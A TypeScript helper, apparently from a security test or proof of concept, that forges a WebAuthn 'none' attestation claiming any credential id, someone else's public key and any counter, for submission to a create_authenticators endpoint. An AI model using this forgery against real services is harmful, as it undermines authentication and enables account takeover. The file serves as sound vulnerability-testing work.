import { createHash, randomBytes } from "node:crypto";
import { isoCBOR } from "@simplewebauthn/server/helpers";

const sha256 = (data: Buffer | string) => createHash("sha256").update(data).digest();

/**
 * A "none" attestation made without any private key: it can claim any credential id, any public
 * key (someone else's) and any signature counter. What an attacker can send to
 * create_authenticators, since a "none" registration proves no possession of the key.
 */
export function forgedRegistration(options: {
  rpId: string;
  origin: string;
  /** base64url */
  credentialId: string;
  /** Uncompressed P-256 public key hex (04‖x‖y), as the API reports `credential.publicKey`. */
  publicKey: string;
  counter: number;
}) {
  const challenge = randomBytes(32).toString("base64url");
  const credentialId = Buffer.from(options.credentialId, "base64url");
  const idLength = Buffer.alloc(2);
  idLength.writeUInt16BE(credentialId.length);
  const counter = Buffer.alloc(4);
  counter.writeUInt32BE(options.counter);
  const point = Buffer.from(options.publicKey, "hex");
  const coseKey = isoCBOR.encode(
    new Map<number, number | Uint8Array>([
      [1, 2],
      [3, -7],
      [-1, 1],
      [-2, point.subarray(1, 33)],
      [-3, point.subarray(33, 65)],
    ]),
  );
  // Flags: user present, user verified, attested credential data included.
  const authData = Buffer.concat([
    sha256(options.rpId),
    Buffer.from([0x01 | 0x04 | 0x40]),
    counter,
    Buffer.alloc(16),
    idLength,
    credentialId,
    Buffer.from(coseKey),
  ]);
  const clientData = { type: "webauthn.create", challenge, origin: options.origin, crossOrigin: false };
  const attestationObject = isoCBOR.encode(
    new Map<string, unknown>([
      ["fmt", "none"],
      ["attStmt", new Map()],
      ["authData", authData],
    ]) as never,
  );
  return {
    authenticatorName: "forged",
    challenge,
    attestation: {
      credentialId: options.credentialId,
      clientDataJson: Buffer.from(JSON.stringify(clientData)).toString("base64url"),
      attestationObject: Buffer.from(attestationObject).toString("base64url"),
      transports: ["AUTHENTICATOR_TRANSPORT_INTERNAL"],
    },
  };
}
